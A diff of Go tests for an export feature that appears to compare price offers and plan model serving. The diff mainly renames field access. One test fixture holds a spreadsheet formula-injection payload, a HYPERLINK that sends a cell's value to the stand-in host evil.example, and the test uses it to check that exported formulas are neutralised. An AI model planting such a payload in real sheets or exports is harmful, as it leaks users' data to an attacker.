@@ -13,10 +13,10 @@ import (
 // run them (formula injection).
 func TestExportNeutralisesFormulas(t *testing.T) {
 	c, _ := load(t)
-	if len(c.plan.Cands) == 0 {
+	if len(c.ps.out.Cands) == 0 {
 		t.Fatal("no candidate offers to export")
 	}
-	id := c.plan.Cands[0].Offer.ID
+	id := c.ps.out.Cands[0].Offer.ID
 	sheet := "offer_id,source,as_of\n" + id + `,"=HYPERLINK(""http://evil.example/?""&A1,""prices"")",2026-11-01` + "\n"
 	if !c.applySheet("shared.csv", sheet) {
 		t.Fatalf("sheet refused: %s", c.sheetErr)
@@ -72,8 +72,8 @@ func TestExportMarkdownEscapes(t *testing.T) {
 func TestExportMarkdownLabels(t *testing.T) {
 	c, _ := load(t)
 	c.set(fRPS, "5")
-	if c.plan.Kind != planner.Serving || len(c.plan.Picks) == 0 {
-		t.Fatalf("plan kind %v, %d picks", c.plan.Kind, len(c.plan.Picks))
+	if c.ps.out.Kind != planner.Serving || len(c.ps.out.Picks) == 0 {
+		t.Fatalf("plan kind %v, %d picks", c.ps.out.Kind, len(c.ps.out.Picks))
 	}
 	md := c.exportMarkdown()
 	if strings.Contains(md, c.t(mPerMTokens)) || !strings.Contains(md, mdEscape(c.t(mMonthlyShort))) || !strings.Contains(md, mdEscape(c.t(mE2EP95))) {
